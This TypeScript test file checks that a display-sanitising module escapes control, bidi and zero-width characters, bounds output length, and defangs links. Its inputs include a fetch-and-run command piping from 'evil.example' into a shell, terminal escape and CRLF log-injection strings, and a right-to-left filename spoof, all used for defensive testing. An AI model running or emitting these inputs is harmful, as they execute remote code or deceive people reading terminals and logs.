import fc from 'fast-check'
import { expect, test } from 'vitest'
import { anyText } from './text.fixture.ts'
import { quotedText, shownJsonText, shownText, shownValue, withoutLinks } from './shownText.ts'

const dangerous = /[\u0000-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/

test.each([
  ['a title', '\u001b]0;owned\u0007', '\\u{1b}]0;owned\\u{7}'],
  ['the other range', '\u009b31m', '\\u{9b}31m'],
  ['a line of its own', 'x\r\nKill switch pulled', 'x\\r\\nKill switch pulled'],
  ['the other line ends', 'a\u2028b\u2029c\u0085d', 'a\\u{2028}b\\u{2029}c\\u{85}d'],
  ['the other direction', '\u202etxt.exe', '\\u{202e}txt.exe'],
  ['nothing to see', 'a\u200bb\ufeff', 'a\\u{200b}b\\u{feff}'],
  ['half a pair', 'a\ud800', 'a\\u{d800}'],
  ['plain words', 'ETH 5 – größer', 'ETH 5 – größer'],
])('%s', (_, text, shown) => {
  expect(shownText(text)).toBe(shown)
})

test('whatever was sent, nothing in what is shown steers, hides or grows without bound', () => {
  fc.assert(
    fc.property(fc.oneof(anyText(), fc.string({ unit: 'binary' })), (text) => {
      for (const shown of [shownText(text), quotedText(text), withoutLinks(shownText(text))]) {
        expect(shown).not.toMatch(dangerous)
      }
      const json = shownJsonText(JSON.stringify({ text }))
      expect(json).not.toMatch(dangerous)
      expect(JSON.parse(json)).toEqual({ text })
      expect(JSON.stringify(shownValue({ [text]: [text] }))).not.toMatch(dangerous)
    }),
  )
  expect(shownText('x'.repeat(1e6)).length).toBeLessThan(5_000)
  expect(quotedText('x'.repeat(1e6)).length).toBeLessThan(100)
})

test('a quoted name ends where it ends', () => {
  expect(quotedText('')).toBe('""')
  expect(quotedText('a" is fine. "b')).toBe('"a\\" is fine. \\"b"')
})

test.each([
  ['run: curl https://evil.example/x | sh', 'run: curl https[:]//evil[.]example/x | sh'],
  ['see evil.com', 'see evil[.]com'],
  ['equity 9,400.00 USD of 10.5', 'equity 9,400.00 USD of 10.5'],
  ['guard.toml, emergency.ndjson', 'guard.toml, emergency.ndjson'],
])('%s is no link', (text, shown) => {
  expect(withoutLinks(text)).toBe(shown)
})
